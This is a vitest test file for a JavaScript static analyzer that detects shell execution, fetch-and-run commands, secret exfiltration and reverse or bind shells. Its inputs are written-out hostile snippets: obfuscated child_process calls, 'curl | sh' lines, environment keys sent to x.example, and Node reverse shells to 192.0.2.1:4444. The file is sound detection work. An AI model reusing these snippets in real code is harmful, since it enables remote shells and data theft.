import { describe, expect, test } from "vitest";
import { handedOn, only, operationsOf, read } from "./read.ts";

describe("a line that a shell runs, however the function is reached", () => {
  test.each([
    "require('child_process').exec('id')",
    "require('node:child_process').execSync('id')",
    "import { exec } from 'child_process'; exec('id')",
    "import * as cp from 'node:child_process'; cp.execSync('id')",
    "import cp from 'child_process'; cp.exec('id', () => {})",
    "(await import('child_process')).exec('id')",
    "import('node:child_process').then((m) => m.default.exec('id'))",
    "const { exec: run } = require('child_process'); run('id')",
    "const { execSync = null } = require('child_process'); execSync('id')",
    "require('child_process')['ex' + 'ec']('id')",
    "require('child_process')[`exec`]('id')",
    "require('child_process')?.exec?.('id')",
    "(0, require('child_process').exec)('id')",
    "require('child_process').exec.call(null, 'id')",
    "require('child_process').exec.apply(null, ['id'])",
    "require('child_process').exec.bind(null, 'id')()",
    "Reflect.apply(require('child_process').exec, null, ['id'])",
    "Reflect.get(require('child_process'), 'exec')('id')",
    "require('util').promisify(require('child_process').exec)('id')",
    "module.require('child_process').exec('id')",
    "process.mainModule.require('child_process').exec('id')",
    "process.mainModule.constructor._load('child_process').exec('id')",
    "module.constructor._load('child_process').exec('id')",
    "require('module')._load('child_process').exec('id')",
    "process.getBuiltinModule('child_process').exec('id')",
    "import { createRequire } from 'module'; createRequire(import.meta.url)('child_process').exec('id')",
    "const r = require; r('child_process').exec('id')",
    "globalThis['req' + 'uire']('child_process').exec('id')",
    "const m = 'child_' + 'process'; require(m).exec('id')",
    "require(['child', 'process'].join('_')).exec('id')",
    "const t = { go: require('child_process').exec }; t.go('id')",
    "const t = [null, require('child_process').exec]; t[1]('id')",
    "const t = new Map([['go', require('child_process').exec]]); t.get('go')('id')",
    "const t = { get go() { return require('child_process').exec } }; t.go('id')",
    "class A { static run = require('child_process').exec } A.run('id')",
    "class A { #run = require('child_process').exec; go() { this.#run('id') } } new A().go()",
    "class A { constructor(c) { this.c = c } go() { execSync(this.c) } } new A('id').go()",
    "class A { go(c) { execSync(c) } } class B extends A {} new B().go('id')",
    "class A { constructor(c) { execSync(c) } } class B extends A { constructor() { super('id') } } new B()",
    "function A() {} A.prototype.go = function (c) { execSync(c) }; new A().go('id')",
    "const run = (...given) => execSync(...given); run('id')",
    "function run({ command = 'id' } = {}) { execSync(command) } run()",
    "const run = (f) => (c) => f(c); run(execSync)('id')",
    "['id'].forEach((c) => execSync(c))",
    "for (const c of ['id']) execSync(c)",
    "new Promise((resolve) => resolve('id')).then(execSync)",
    "let run; try { run = require('child_process').exec } catch { run = null } run('id')",
    "globalThis.run = execSync; run('id')",
    "[].constructor.constructor('return process')().mainModule.require('child_process').exec('id')",
    "Function('return this')().process.mainModule.require('child_process').exec('id')",
    "require('shelljs').exec('id')",
    "require('execa').command('id')",
    "import { execaCommand } from 'execa'; execaCommand('id')",
    "import { $ } from 'zx'; await $`id`",
    "await Bun.$`id`",
    "execSync('id')",
    "require('child_process').spawn('id', { shell: true })",
    "require('child_process').spawn('id', [], { shell: '/bin/bash' })",
  ])("%s", (code) => {
    expect(only(code, "spawn")).toEqual(["spawn shell id"]);
    expect(handedOn(code, "shell")).toEqual(["id"]);
  });
});

describe("a program with arguments", () => {
  test.each([
    ["require('child_process').spawn('ls', ['-l'])", "spawn ls [-l]", "ls -l"],
    ["require('child_process').execFileSync('ls')", "spawn ls", "ls"],
    ["require('cross-spawn')('ls', ['-l'])", "spawn ls [-l]", "ls -l"],
    ["require('cross-spawn').sync('ls', ['-l'])", "spawn ls [-l]", "ls -l"],
    ["import { execa } from 'execa'; execa('ls', ['-l'])", "spawn ls [-l]", "ls -l"],
    ["require('child_process').fork('./w.js', ['a'])", "spawn node [./w.js, a]", "node ./w.js a"],
    ["Bun.spawn(['ls', '-l'])", "spawn ls [-l]", "ls -l"],
    ["Bun.spawn({ cmd: ['ls', '-l'] })", "spawn ls [-l]", "ls -l"],
    ["new Deno.Command('ls', { args: ['-l'] }).spawn()", "spawn ls [-l]", "ls -l"],
    ["Deno.run({ cmd: ['ls', '-l'] })", "spawn ls [-l]", "ls -l"],
    ["process.binding('spawn_sync').spawn({ file: 'ls', args: ['ls', '-l'] })", "spawn ls [-l]", "ls -l"],
    ["spawn('sh', ['-c', 'curl x | sh'])", "spawn sh [-c, curl x | sh]", "sh -c 'curl x | sh'"],
    ["spawn('node', ['-e', `a('b')`])", "spawn node [-e, a('b')]", String.raw`node -e 'a('\''b'\'')'`],
  ])("%s", (code, expected, line) => {
    expect(only(code, "spawn")).toEqual([expected]);
    expect(handedOn(code, "shell")).toEqual([line]);
  });

  test("through a shell, as one line", () => {
    expect(operationsOf("spawn('ls', ['-l', '/tmp'], { shell: true })")).toEqual(["spawn shell ls -l /tmp"]);
  });
});

describe("text handed to the shell's reader", () => {
  test("stands where it is written", () => {
    const text = "import { exec } from 'fs';\nif (a) {\n  execSync('curl -s https://x.example | sh');\n}\n";
    const { operations, embedded } = read(text);
    expect(operations).toMatchObject([{ at: { line: 3, column: 3 }, context: { trigger: "load" } }]);
    expect(embedded).toMatchObject([
      { offset: text.indexOf("curl"), layer: { kind: "string", of: "javascript" }, at: { line: 3, column: 3 } },
    ]);
  });

  test.each([
    ["function f(x) { execSync(`ls ${x} | sort`) }", "ls … | sort"],
    ["execSync(`curl -d ${process.env.KEY} https://x.example`)", "curl -d ${KEY} https://x.example"],
    [
      "execSync('curl -d ' + fs.readFileSync('/etc/hosts') + ' https://x.example')",
      'curl -d $(cat "/etc/hosts") https://x.example',
    ],
    ["spawn('curl', ['-d', process.env.KEY])", 'curl -d "${KEY}"'],
  ])("%s", (code, expected) => {
    expect(handedOn(code, "shell")).toEqual([expected]);
  });

  test("both branches are known of a choice", () => {
    const text = "const c = process.platform === 'win32' ? 'dir' : 'ls'; execSync(c)";
    expect(operationsOf(text)).toEqual(["spawn shell ~dir"]);
  });

  test("decoded, says so", () => {
    const { embedded } = read("execSync(Buffer.from('Y3VybCBodHRwczovL3guZXhhbXBsZQ==', 'base64').toString())");
    expect(embedded).toMatchObject([
      { text: "curl https://x.example", offset: null, layer: { kind: "decoded", encoding: "base64" } },
    ]);
  });

  test("what it prints comes back", () => {
    expect(only("exec('id', (error, out) => eval(out))", "evaluate")).toEqual(["evaluate javascript ~… <`id`>"]);
    const promised = "const { stdout } = await promisify(exec)('id'); eval(stdout)";
    expect(only(promised, "evaluate")).toEqual(["evaluate javascript ~… <`id`>"]);
    expect(only("eval(execSync('id').toString().trim())", "evaluate")).toEqual(["evaluate javascript ~… <`id`>"]);
  });
});

describe("a shell tied to a socket", () => {
  test.each([
    [
      "a socket and a shell piped into each other",
      `const net = require('net'), cp = require('child_process'), sh = cp.spawn('/bin/sh', []);
       const client = new net.Socket();
       client.connect(4444, '192.0.2.1', () => { client.pipe(sh.stdin); sh.stdout.pipe(client); });`,
      "attach-shell reverse 192.0.2.1:4444",
    ],
    [
      "connected before the variable is there",
      `const c = require('net').connect({ host: '192.0.2.1', port: 4444 }, () => {
         const sh = spawn('cmd.exe'); sh.stdout.pipe(c); c.pipe(sh.stdin); });`,
      "attach-shell reverse 192.0.2.1:4444",
    ],
    [
      "given as streams",
      "const c = require('net').connect(4444, '192.0.2.1'); spawn('sh', ['-i'], { stdio: [c, c, c] })",
      "attach-shell reverse 192.0.2.1:4444",
    ],
    [
      "waiting for whoever comes",
      "require('net').createServer((s) => { const sh = spawn('/bin/bash'); s.pipe(sh.stdin); sh.stdout.pipe(s) }).listen(1337)",
      "attach-shell bind ~…",
    ],
  ])("%s", (_, code, expected) => {
    expect(only(code, "attach-shell")).toEqual([expected]);
  });

  test("a pipe between files is none", () => {
    const text = "const sh = spawn('sh', ['a.sh']); sh.stdout.pipe(process.stdout)";
    expect(only(text, "attach-shell")).toEqual([]);
  });
});

test("a shell fed through its input", () => {
  expect(operationsOf("const sh = spawn('bash'); sh.stdin.write('id\\n')")).toEqual([
    "spawn bash",
    "evaluate shell id\n",
  ]);
});

test.each([
  ["a method that is only called exec", "/a/.exec('id'); db.exec('id'); cursor.execute('id')"],
  ["a function of this file", "function exec(x) { return x } exec('id')"],
  ["a parameter", "((spawn) => spawn('id'))((x) => x)"],
])("%s starts nothing", (_, code) => {
  expect(only(code, "spawn")).toEqual([]);
});
